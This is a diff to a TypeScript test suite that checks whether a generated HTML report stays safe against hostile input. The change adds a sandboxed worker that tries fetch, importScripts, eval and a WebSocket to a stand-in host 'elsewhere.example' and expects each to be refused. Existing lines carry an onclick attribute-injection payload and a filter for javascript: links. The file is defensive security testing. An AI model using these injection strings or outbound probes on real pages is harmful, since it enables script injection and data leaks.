@@ -12,6 +12,7 @@ import type { Result } from "../format/read-result.ts";
 import { openChromium } from "../machine/chromium.ts";
 import { plotlyText } from "../store/figure-files.ts";
 import { reportPage } from "./page.ts";
+import { onePagePrograms } from "./page-programs.ts";
 
 const elsewhere = "http://elsewhere.example/";
 const runs = "window.hacked = (window.hacked ?? 0) + 1";
@@ -83,6 +84,7 @@ describe("a page of hostile texts", () => {
       asked,
       links: links.filter((link) => /^\s*javascript:/i.test(link)),
       scripts: scripts.filter((script) => script === runs),
+      listed: await tab.evaluate("window.listed"),
     };
     await tab.close();
     return harm;
@@ -94,7 +96,30 @@ describe("a page of hostile texts", () => {
       await draw(each);
     }
   })()`;
-  const NONE = { hacked: undefined, asked: [], links: [], scripts: [] };
+  const NONE = { hacked: undefined, asked: [], links: [], scripts: [], listed: undefined };
+  /** A stranger's program in the worker: it looks for the page, asks another host, and reports texts. */
+  const STRANGER = `onmessage = async () => {
+    const found = [typeof document, typeof window, typeof localStorage];
+    for (const ask of [
+      () => fetch("${elsewhere}fetched"), () => importScripts("${elsewhere}imported.js"), () => eval("1"),
+      () => new Promise((resolve, reject) => {
+        const socket = new WebSocket("${elsewhere.replace("http", "ws")}");
+        socket.onopen = resolve;
+        socket.onerror = reject;
+      }),
+    ]) {
+      try { await ask(); found.push("let"); } catch { found.push("refused"); }
+    }
+    postMessage({ difference: ${JSON.stringify(hostile)} });
+    postMessage({ failure: found.join() });
+    postMessage({ refused: ${JSON.stringify(hostile)} });
+  };`;
+  const RECOMPUTE = `(async () => {
+    const box = document.querySelector("[data-recompute]");
+    box.querySelector("[data-do=sample]").click();
+    while (!box.querySelector("progress").hidden) await new Promise((resolve) => setTimeout(resolve, 10));
+    window.listed = [...box.querySelectorAll("li"), box.querySelector("output")].map((each) => each.textContent);
+  })()`;
 
   it("that is the report runs none of them and loads nothing", async () => {
     const [first, ...others] = claims;
@@ -123,9 +148,19 @@ describe("a page of hostile texts", () => {
       bibtex: new Map([[result.id, hostile]]),
       plotly: plotlyText(),
       reference: `x" onclick="${runs}`,
+      programs: {
+        page: (await onePagePrograms([])).page,
+        worker: STRANGER,
+        ids: new Set([pictured.id]),
+        absent: new Map(),
+      },
     });
     expect(page.split("window.hacked").length).toBeGreaterThan(20);
-    expect(await harmOf("report.html", page, DRAW_ALL)).toEqual(NONE);
+    const seen = ["undefined", "undefined", "undefined", "refused", "refused", "refused", "refused"];
+    expect(await harmOf("report.html", page, `${DRAW_ALL}.then(() => ${RECOMPUTE})`)).toEqual({
+      ...NONE,
+      listed: [hostile, seen.join(), hostile],
+    });
   });
 
   it("that is a figure runs none of them and loads nothing", async () => {
